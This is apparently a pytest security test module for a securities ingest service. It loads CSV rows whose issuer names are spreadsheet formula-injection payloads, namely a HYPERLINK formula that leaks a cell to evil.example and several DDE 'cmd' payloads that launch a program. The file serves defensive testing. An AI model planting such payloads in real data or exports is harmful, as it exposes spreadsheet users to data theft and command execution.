"""Security tests: each attack as the attacker would send it, and what the attacker sees."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from service.db.pool import Database
from service.demo.files import write_csv
from service.ingest.base import IngestOptions
from service.ingest.pipeline import ingest_file
from tests.conftest import DatabaseFactory

FORMULA_NAMES = {
    "FEQ": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the report")',
    "FPL": "+cmd|' /C calc'!A0",
    "FMI": "-2+3+cmd|' /C calc'!A0",
    "FAT": "@SUM(1+1)*cmd|' /C calc'!A0",
}
"""Issuer names as an attacker would get them into a source file (securities.csv)."""
PLAIN = ["AAA", "BBB", "CCC", "DDD", "EEE"]


@pytest.fixture(scope="module")
def listed_url(db_factory: DatabaseFactory, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A database of this module's own with a few securities (enough for several pages),
    some of them named like spreadsheet formulas, loaded through the real ingest pipeline."""
    url = db_factory.create()
    header = ["symbol", "name", "type", "market_class"]
    rows = [[symbol, f"{symbol} Corp", "stock", "NYSE"] for symbol in PLAIN]
    rows += [[symbol, name, "stock", "OTC"] for symbol, name in FORMULA_NAMES.items()]
    path = write_csv(tmp_path_factory.mktemp("listed") / "securities.csv", header, rows)

    async def load(file: Path) -> None:
        db = Database(url, min_size=1, max_size=2)
        await db.open()
        try:
            outcome = await ingest_file(db, file, "securities", IngestOptions())
            assert outcome.status == "applied", outcome.error
        finally:
            await db.close()

    asyncio.run(load(path))
    return url
